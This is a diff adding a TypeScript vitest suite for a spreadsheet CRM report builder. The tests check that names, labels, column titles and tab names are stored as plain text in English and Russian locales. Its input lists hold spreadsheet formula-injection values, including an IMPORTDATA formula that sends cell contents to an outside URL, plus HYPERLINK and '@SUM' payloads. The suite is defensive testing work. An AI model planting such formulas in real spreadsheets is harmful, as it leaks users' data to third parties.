@@ -1,0 +1,105 @@
+/** What a customer, a type or a manager is called in a CRM is shown as it is, and is never a formula, a number or a date. */
+import { expect, test } from 'vitest';
+import { openApp } from './support/app.ts';
+import { champion, type LogRow, lost } from './support/log.ts';
+import { build } from './support/run.ts';
+import { cellAt, columnOf, note, rowOf, sheet, type, values } from './support/tabs.ts';
+
+const NAMES = [
+  '=IMPORTDATA("https://example.org/?"&A1)',
+  '=1+1',
+  '+1',
+  '-1',
+  '@x',
+  "'x",
+  "''quoted''",
+  '1/2',
+  '007',
+  'TRUE',
+  'ложь',
+  '1e5',
+  '12:30',
+  '50%',
+  '$5',
+  '1 000',
+  '2026-03-31',
+  '31.03.2026',
+  'Mar 5',
+  '🙂 Ltd',
+  'x'.repeat(300),
+  'Call list – Champions',
+  'Customer',
+  '<b>bold</b>',
+  '{1;2}',
+  '—',
+  '"',
+];
+
+test.each(['en_US', 'ru_RU'])('names and labels in %s', async (locale) => {
+  const rows: LogRow[] = NAMES.flatMap((name, index) =>
+    (index % 2 === 0 ? champion(name, 1000 - index) : lost(name, 1000 - index)).map((row) => [...row, name, name]),
+  );
+  const app = openApp({ rows, titles: ['Customer', 'Date', 'Amount', 'Type', 'Manager'], locale });
+  const settings = {
+    ...app.settings,
+    layout: { ...app.settings.layout, customerType: 3, manager: 4 },
+    lists: ['champions', 'promising', 'at-risk', 'lost'],
+  };
+  await build(app, settings);
+  await build(app, settings);
+  const [, customers, summary, champions] = app.host.engine.sheets();
+  if (customers === undefined || summary === undefined || champions === undefined) throw new Error('tabs are missing');
+  for (const tab of [customers, summary, champions]) {
+    const formulas = tab.formulas({ row: 0, column: 0, ...tab.used() }).flat();
+    expect(formulas.filter((formula) => formula !== '')).toEqual([]);
+  }
+  const rowsOf = new Map(values(customers).map((cells) => [cells[0], cells]));
+  for (const name of NAMES) expect(rowsOf.get(name)?.slice(0, 3)).toEqual([name, name, name]);
+  const kinds = customers.read({ row: 1, column: 0, rows: NAMES.length, columns: 1 }).map(([cell]) => cell?.kind);
+  expect(new Set(kinds)).toEqual(new Set(['text']));
+  const types = values(summary).map(([first]) => first);
+  for (const name of NAMES) expect(types).toContain(name);
+});
+
+test('a name with line breaks and stray blanks is one line', async () => {
+  const app = openApp({ rows: [...champion('Ann\n\t Smith\u00a0'), ...lost('Bob')] });
+  await build(app);
+  expect(values(sheet(app, 'Customers')).map(([name]) => name)).toContain('Ann Smith');
+});
+
+test('bad values are listed as text, whatever they look like', async () => {
+  const bad = ['=HYPERLINK("x";"y")', '@SUM(1)', "'31.02.2025", '+oops'];
+  const rows: LogRow[] = [...champion('Ann'), ...bad.map((text): LogRow => ['Bob', text, 1])];
+  const app = openApp({ rows: [...champion('Ann')] });
+  rows.forEach((row, index) => {
+    app.log.write({ row: index + 1, column: 0, rows: 1, columns: 3 }, [
+      row.map((cell) =>
+        typeof cell === 'number' ? { kind: 'number', value: cell } : { kind: 'text', value: cell ?? '' },
+      ),
+    ]);
+  });
+  await build(app);
+  const tab = sheet(app, 'Data problems');
+  expect(
+    values(tab)
+      .slice(3)
+      .map((cells) => cells[3]),
+  ).toEqual(bad);
+  expect(tab.formulas({ row: 3, column: 3, rows: bad.length, columns: 1 }).flat()).toEqual(bad.map(() => ''));
+});
+
+test('an added column may have a hostile title, and a tab a hostile name', async () => {
+  const app = openApp({ rows: champion('Ann') });
+  await build(app);
+  const tab = sheet(app, 'Call list – Champions');
+  const column = tab.used().columns;
+  tab.write(cellAt(2, column), [[{ kind: 'text', value: '=1+1' }]]);
+  note(tab, 'Ann', '=1+1', "'=2+2");
+  tab.rename(`it's; "quoted"`);
+  type(app.log, 0, 5, `='it''s; "quoted"'!A4`);
+  await build(app);
+  await app.host.engine.settled();
+  expect(columnOf(tab, '=1+1')).toBe(column);
+  expect(values(tab)[rowOf(tab, 'Ann')]?.[column]).toBe("'=2+2");
+  expect(app.log.read(cellAt(0, 5))[0]?.[0]?.value).toBe('Ann');
+});
